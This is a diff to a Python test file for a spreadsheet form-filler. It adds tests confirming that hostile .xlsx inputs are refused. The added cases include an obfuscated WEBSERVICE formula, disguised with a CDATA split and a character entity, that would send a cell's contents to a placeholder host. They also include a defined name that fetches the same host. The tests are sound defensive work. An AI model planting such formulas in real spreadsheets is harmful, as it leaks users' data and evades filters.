@@ -186,6 +186,9 @@ FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
         ({"xl/worksheets/sheet1.xml": sheet_xml(
             '<row r="1"><c r="A1"><f>WEBSERVICE("http://a.b/"&amp;B1)</f></c></row>') +
             "</worksheet>"}, "form.refused.fetches"),
+        ({"xl/worksheets/sheet1.xml": sheet_xml(
+            '<row r="1"><c r="A1"><f>_xlfn.<![CDATA[web]]>&#83;ERVICE ("http://a.b/"&amp;B1)</f>'
+            "</c></row>") + "</worksheet>"}, "form.refused.fetches"),
         ({"xl/worksheets/sheet1.xml": sheet_xml(ONE) +
           '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'},
          "form.refused.too_big"),
@@ -201,7 +204,7 @@ FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
          "file.refused.broken"),
         ({"xl/worksheets/sheet1.xml": "<worksheet"}, "file.refused.broken"),
     ],
-    ids=range(12),
+    ids=range(13),
 )  # fmt: skip
 def test_a_hostile_form_is_sent_back_and_nothing_else_happens(changed, why):
     with pytest.raises(Refusal) as refused:
@@ -242,3 +245,14 @@ def test_a_bomb_within_bounds_on_paper_is_not_unpacked():
 def test_a_form_without_any_mark_is_asked_about():
     with pytest.raises(Refusal, match=r"form\.refused\.no_marks"):
         fill_form("x.xlsx", a_form(["应到"]), Filling({"expected": 1}))
+
+
+def test_a_name_that_asks_somebody_else_is_sent_back():
+    from openpyxl.workbook.defined_name import DefinedName
+
+    book = openpyxl.Workbook()
+    book.active["A1"] = "{{应到}}"
+    book.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://a.b")')
+
+    with pytest.raises(Refusal, match=r"form\.refused\.fetches"):
+        fill_form("x.xlsx", saved(book), Filling({"expected": 1}))
